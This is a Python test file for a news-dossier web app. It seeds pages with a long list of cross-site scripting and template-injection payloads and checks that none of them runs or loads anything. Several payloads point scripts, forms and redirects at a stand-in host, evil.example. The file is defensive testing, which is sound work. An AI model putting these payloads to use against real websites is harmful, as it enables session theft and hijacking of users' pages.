"""Texts that try to run or load something, on every kind of page: they are shown, and do nothing."""

import json
from html import escape

import pytest
from lxml import html
from tests.application.serving import client_of, dossier_of

from backchannel.engine import open_dossier, read_built
from backchannel.model import Decision

NOW = "2026-01-01T00:00:00+00:00"
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></ScRiPt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>press</a>",
    "<form action=//evil.example><input name=x></form>",
    "<body onpageshow=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div style=background:url(//evil.example)>x</div>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u2028alert(1)",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
)
NEVER = {
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "base",
    "style",
    "img",
    "video",
    "audio",
    "math",
    "foreignobject",
}
LISTS = ("/search", "/contacts", "/findings", "/documents", "/claims", "/pairs")
MOST_OF_A_KIND = 12
SPOT = "alert(1)"


def document_of(number, payload):
    day = f"2018-03-{number % 27 + 1:02d}"
    text = (
        f"President Donald J. Trump spoke today with President Vladimir Putin of Russia by telephone. {payload} "
        f"The two leaders discussed trade {payload} and agreed to meet. President Trump and President Putin regularly "
        f"talk over the phone, an aide said. {payload}"
    )
    return {"title": f"Readout of the call {payload}", "text": text, "date": day, "source": f"The {payload} Post"}


SETTINGS = """
[[people]]
id = "Q7747"
name = "Vladimir <script>alert(1)</script> Putin"
forms = ["Vladimir Putin", "Putin"]
offices = [{ title = "president", party = "ru", since = "2012" }]

[[sources]]
name = "The <img src=x onerror=alert(1)> Post"
party = "x <svg/onload=alert(1)>"
timezone = "UTC"
publishes = ["readout"]
"""


@pytest.fixture(scope="module")
def dossier(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "dossier").mkdir()
    (folder / "dossier" / "backchannel.toml").write_text(SETTINGS)
    rows = [document_of(number, payload) for number, payload in enumerate(PAYLOADS)]
    (folder / "rows.jsonl").write_text("\n".join(json.dumps(row) for row in rows), encoding="utf-8")
    for number, payload in enumerate(PAYLOADS[::4]):
        shown = {key: escape(value) for key, value in document_of(number, payload).items()}
        page = f"<title>{shown['title']}</title><h1>{shown['title']}</h1><article><p>{shown['text']}</p></article>"
        (folder / f"{number}.html").write_text(f"<!doctype html><html><body>{page}</body></html>", encoding="utf-8")
    directory = dossier_of(folder, folder / "rows.jsonl", *sorted(folder.glob("*.html")))
    with open_dossier(directory) as opened:
        mentions = [one.references[0].mention for one in read_built(opened).contacts]
        for payload, mention in zip(PAYLOADS, mentions, strict=False):
            opened.ledger.append_decision(Decision("note", (mention,), payload, payload, NOW))
    return dossier_of(folder)


@pytest.fixture(scope="module")
def pages(dossier):
    """Return the pages that links lead to, a few of each kind, and those that show what is typed, by address."""
    client = client_of(dossier)
    todo, found, kinds = ["/"], {}, {}
    while todo:
        address = todo.pop(0).partition("#")[0]
        kind = address.partition("?")[0].split("/")[1]
        if address in found or kind in ("static", "data") or kinds.get(kind, 0) >= MOST_OF_A_KIND:
            continue
        kinds[kind] = kinds.get(kind, 0) + 1
        answer = client.get(address)
        if answer.headers["content-type"].startswith("text/html"):
            found[address] = answer
            todo += [link for link in html.fromstring(answer.content).xpath("//a/@href") if link.startswith("/")]
    for number, payload in enumerate(PAYLOADS):
        for at, name in enumerate(("q", "between", "since", payload)):
            path = LISTS[(number + at) % len(LISTS)]
            found[f"{path}?{name}={payload}"] = client.get(path, params={name: payload})
        found[f"/{payload}"] = client.get(f"/{payload.replace('/', '%2f')}")
        found[f"/contacts/{payload}"] = client.get(f"/contacts/{payload.replace('/', '%2f')}")
    return found


def faults_of(answer):
    """Yield whatever on a page could run or load something that is not ours."""
    for element in html.document_fromstring(answer.content).iter():
        if not isinstance(element.tag, str):
            yield from [f"comment {element.text}"] if SPOT in (element.text or "") else []
            continue
        tag = element.tag.rpartition("}")[2].lower()
        if tag in NEVER or (tag == "meta" and element.get("http-equiv")):
            yield tag
        if tag == "script" and element.get("type") == "application/ld+json":
            json.loads(element.text)
        elif tag == "script" and (element.text or not element.get("src", "").startswith("/static/")):
            yield "script"
        for name, value in element.attrib.items():
            if is_odd(tag, name, "".join(value.split()).lower()):
                yield f"{tag} {name}={value}"


def is_odd(tag, name, value):
    """Say whether an attribute could run something, or load or send it elsewhere."""
    leads = {"src", "action", "formaction", "srcset", "data", "poster"} | ({"href"} if tag != "a" else set())
    return (
        name.startswith("on")
        or name in {"style", "srcdoc"}
        or (name in leads and not (value.startswith(("/", "#")) and not value.startswith("//")))
        or (tag == "a" and name in {"href", "xlink:href"} and not value.startswith(("/", "#", "http://", "https://")))
        or (name in {"hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"} and not value.startswith("/"))
        or name in {"hx-on", "hx-vals", "hx-vars"}
    )


def test_nothing_in_a_document_runs_or_loads_on_any_page_nor_makes_one_fail(pages):
    assert {address: faults for address, page in pages.items() if (faults := list(faults_of(page)))} == {}
    assert [address for address, page in pages.items() if page.status_code >= 500] == []
    kinds = {address.partition("?")[0].split("/")[1] for address in pages}
    assert {"", "contacts", "documents", "findings", "claims", "pairs", "rules", "search", "method"} <= kinds
    shown = " ".join(html.document_fromstring(page.content).text_content() for page in pages.values())
    for payload in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ 7 * 7 }}", "Vladimir <script>"):
        assert payload in shown, payload


def test_the_test_sees_what_it_must_see():
    class Page:
        content = (
            b"<html><body><img src=x onerror=a()><a href=' JavaScript:a()'>x</a><script>a()</script><p style=x>"
            b"<script src=//evil.example/x.js></script><form action=https://evil.example></form><div hx-get=//e></div>"
        )

    assert len(list(faults_of(Page))) == 9
